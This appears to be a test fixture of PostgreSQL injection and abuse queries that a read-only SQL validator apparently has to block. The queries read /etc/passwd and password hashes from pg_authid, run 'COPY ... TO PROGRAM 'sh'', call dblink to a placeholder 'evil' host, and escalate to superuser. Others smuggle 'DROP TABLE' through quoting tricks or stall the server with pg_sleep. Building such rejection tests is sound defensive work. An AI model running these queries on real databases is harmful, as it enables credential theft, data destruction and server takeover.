SELECT pg_read_file('/etc/passwd')
---
SELECT pg_catalog.pg_read_file('/etc/passwd')
---
SELECT "pg_read_file"('/etc/passwd')
---
SELECT pg_read_binary_file('/etc/passwd')
---
SELECT * FROM pg_read_file('/etc/passwd')
---
SELECT * FROM customers, LATERAL pg_read_file('/etc/passwd') AS f
---
SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd')) AS f
---
SELECT pg_ls_dir('/')
---
SELECT * FROM pg_ls_waldir()
---
SELECT pg_stat_file('/etc/passwd')
---
SELECT pg_sleep(1000)
---
SELECT pg_sleep_for('1 hour')
---
SELECT lo_import('/etc/passwd')
---
SELECT lo_export(1, '/tmp/x')
---
SELECT lo_get(1)
---
SELECT lo_create(0)
---
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
---
SELECT dblink_exec('host=evil', 'DROP TABLE x')
---
SELECT set_config('transaction_read_only', 'off', false)
---
SELECT current_setting('data_directory')
---
SELECT nextval('customers_id_seq')
---
SELECT setval('customers_id_seq', 1)
---
SELECT query_to_xml('DELETE FROM orders', true, true, '')
---
SELECT table_to_xml('pg_authid', true, true, '')
---
SELECT cursor_to_xml('c', 1, true, true, '')
---
SELECT xpath('/', query_to_xml('SELECT 1', true, true, ''))
---
SELECT pg_terminate_backend(1)
---
SELECT pg_cancel_backend(1)
---
SELECT pg_reload_conf()
---
SELECT pg_rotate_logfile()
---
SELECT pg_promote()
---
SELECT pg_advisory_lock(1)
---
SELECT pg_try_advisory_xact_lock(1)
---
SELECT pg_notify('channel', 'x')
---
SELECT pg_logical_emit_message(true, 'a', 'b')
---
SELECT pg_create_restore_point('x')
---
SELECT pg_switch_wal()
---
SELECT pg_export_snapshot()
---
SELECT pg_current_xact_id()
---
SELECT txid_current()
---
SELECT ts_stat('SELECT 1')
---
SELECT * FROM ts_stat('DELETE FROM orders')
---
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
---
SELECT * FROM crosstab('DELETE FROM orders') AS t(a int)
---
SELECT database_to_xml(true, true, '')
---
SELECT binary_upgrade_set_next_pg_type_oid(1)
---
SELECT * FROM pg_authid
---
SELECT * FROM pg_catalog.pg_authid
---
SELECT * FROM "pg_authid"
---
SELECT passwd FROM pg_shadow
---
SELECT * FROM pg_user_mapping
---
SELECT * FROM pg_user_mappings
---
SELECT * FROM pg_largeobject
---
SELECT * FROM pg_stat_activity
---
SELECT * FROM pg_settings
---
SELECT * FROM pg_file_settings
---
SELECT * FROM pg_hba_file_rules
---
SELECT * FROM pg_stats
---
SELECT * FROM pg_statistic
---
SELECT * FROM pg_subscription
---
SELECT * FROM pg_temp_3.secrets
---
SELECT * FROM pg_toast.pg_toast_1234
---
SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)
---
TABLE pg_authid
---
WITH t AS (TABLE pg_shadow) SELECT * FROM t
---
SELECT 1 UNION TABLE pg_authid
---
COPY customers TO PROGRAM 'sh'
---
COPY (SELECT * FROM customers) TO '/tmp/x'
---
COPY customers FROM '/etc/passwd'
---
COPY customers TO STDOUT
---
SELECT * INTO TEMP stolen FROM customers
---
SELECT * INTO UNLOGGED stolen FROM customers
---
SELECT * FROM customers FOR SHARE
---
SELECT * FROM customers FOR NO KEY UPDATE SKIP LOCKED
---
SELECT * FROM customers FOR KEY SHARE
---
WITH c AS (SELECT * FROM customers FOR UPDATE) SELECT * FROM c
---
EXPLAIN ANALYZE SELECT 1
---
EXPLAIN (ANALYZE) SELECT 1
---
EXPLAIN (ANALYZE true, BUFFERS) SELECT 1
---
EXPLAIN (ANALYZE false) SELECT 1
---
EXPLAIN (COSTS off) DELETE FROM orders
---
EXPLAIN CREATE TABLE x AS SELECT 1
---
SHOW ALL
---
SHOW hba_file
---
SHOW data_directory
---
SHOW config_file
---
SHOW ssl_key_file
---
SET ROLE postgres
---
SET SESSION AUTHORIZATION postgres
---
SET default_transaction_read_only = off
---
SET TRANSACTION READ WRITE
---
BEGIN READ WRITE
---
START TRANSACTION READ WRITE
---
COMMIT AND CHAIN
---
ALTER SYSTEM SET listen_addresses = '*'
---
ALTER ROLE postgres SUPERUSER
---
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
---
CREATE EXTENSION plpython3u
---
CREATE ROLE evil SUPERUSER
---
REFRESH MATERIALIZED VIEW m
---
CLUSTER customers
---
CHECKPOINT
---
DISCARD ALL
---
LISTEN x
---
NOTIFY x
---
COMMENT ON TABLE customers IS 'x'
---
SECURITY LABEL ON TABLE customers IS 'x'
---
REASSIGN OWNED BY a TO b
---
DROP OWNED BY a
---
VALUES (pg_read_file('/etc/passwd'))
---
SELECT $$a$$; DROP TABLE customers; SELECT $$b$$
---
SELECT /* a /* nested */ */ 1; DROP TABLE customers
---
SELECT E'\'' ; DROP TABLE customers; --'
---
SELECT repeat('x', 1000000000)
---
SELECT lpad('x', 1000000000)
---
SELECT repeat('x', (SELECT 1000000000))
---
SELECT rpad(name, id) FROM customers
---
SELECT 1 OPERATOR(evil.+) 2
---
SELECT "COUNT"(*) FROM customers
---
SELECT public.count(*) FROM customers
---
SELECT U&"\0070g_sleep"(10)
---
SELECT array_agg(pg_read_file(name)) FROM customers
---
SELECT * FROM generate_series(1, (SELECT count(*) FROM pg_authid))
---
SELECT * FROM customers TABLESAMPLE evil(pg_sleep(10))
---
SELECT * FROM json_to_recordset(pg_read_file('/x')::json) AS t(a int)
---
SELECT name FROM customers ORDER BY (SELECT pg_sleep(5))
---
SELECT * FROM a.b.c.d
---
WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT pg_sleep(1)::text::int FROM t) SELECT * FROM t
---
SELECT inet_server_addr()
---
SELECT pg_hba_file_rules()
---
SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')
---
SELECT 1 |-- '
2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 &-- '
2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 #-- '
2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 %-- '
2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 >-- '
2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 ?-- '
2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 |/* '
*/ 2 , pg_read_file('/etc/hostname') -- '
---
SELECT 1 </* '
*/ 2 , pg_read_file('/etc/hostname') -- '
---
SELECT E'a'
'\'' , pg_sleep(10) , ' --'
---
SELECT box '(1,1),(0,0)' &>'(0,0),(1,1)' , pg_sleep(1) , ' --'
---
SELECT ('/etc/passwd'::text).pg_read_file
---
SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) f
---
SELECT s.pg_terminate_backend FROM generate_series(1, 1) s
---
SELECT s."pg_terminate_backend" FROM generate_series(1, 1) s
---
SELECT (10::float8).pg_sleep
---
SELECT ('data_directory'::text).current_setting
---
SELECT (7::bigint).pg_advisory_lock
---
SELECT (7::oid).lo_unlink
---
SELECT rolname, rolpassword FROM ONLY pg_authid
---
SELECT * FROM customers JOIN ONLY pg_authid ON true
---
SELECT option_name, option_value FROM information_schema.user_mapping_options
---
SELECT * FROM information_schema._pg_user_mappings
---
WITH pg_locKs AS (SELECT 1) SELECT * FROM pg_locks
---
SELECT id FROM customers ORDER BY id USING OPERATOR(evil.<)
---
SELECT format('%1000000000s', 'x')
---
SELECT format('%*s', 1000000000, 'x')
---
SELECT format('%1$s%1$s', repeat('x', 10000))
---
SELECT format(name) FROM customers
---
SELECT format(VARIADIC ARRAY['%1000000000s', 'x'])
---
(TABLE customers FOR UPDATE)
---
WITH t AS (TABLE orders FOR SHARE) SELECT count(*) FROM t
---
SELECT $1a$ , pg_sleep(10) -- $1a$
---
SELECT pg_catalog.set_config('transaction_read_only', 'off', true)
---
SELECT * FROM pg_catalog.pg_stat_ssl
---
SELECT * FROM pg_prepared_statements
---
SELECT lowrite(1, 'x')
---
SELECT lo_from_bytea(0, 'x')
---
SELECT pg_log_backend_memory_contexts(1)
---
SELECT pg_stat_reset()
---
SELECT * FROM pg_show_all_settings()
---
SELECT pg_file_write('/tmp/x', 'y', false)
---
SELECT brin_summarize_new_values('i'::regclass)
---
SELECT (c).pg_advisory_unlock_all FROM customers c
---
SELECT currval('customers_id_seq')
---
EXPLAIN (FORMAT json, ANALYZE) SELECT 1
---
EXPLAIN (SERIALIZE text) SELECT 1
---
SHOW shared_preload_libraries
---
SELECT * FROM customers WHERE id = ANY (SELECT pg_backend_pid())
---
SELECT * FROM XMLTABLE('/r' PASSING pg_read_file('/x')::xml COLUMNS a text PATH '.')
---
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
---
SELECT pg_drop_replication_slot('s')
---
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
---
SELECT dblink_connect_u('c', 'host=evil')
---
SELECT * FROM postgres_fdw_get_connections()
---
SELECT sum(pg_sleep(1)::text::int) OVER (PARTITION BY city) FROM customers
---
SELECT name FROM customers FETCH FIRST (SELECT pg_sleep(5)::text::int) ROWS ONLY
---
SELECT ('shop'::name).pg_terminate_backend
---
MERGE INTO customers c USING orders o ON c.id = o.id WHEN MATCHED THEN DO NOTHING
---
SELECT name FROM (SELECT customers )ordered (SELECT pg_sleep(5))
---
SELECT  E'\'' ; DROP TABLE customers(SELECT ; --)'
---
SELECT pg::_catalog.pg::_catalog.set_config('transaction_read_only', 'off', true)
---
SELECT pg::user.set_config('transaction_read_only', 'off', true)
---
SELECT pg::_catalog.set_config()
---
SELECT * FROM customers.when AS pg_sleep(a)
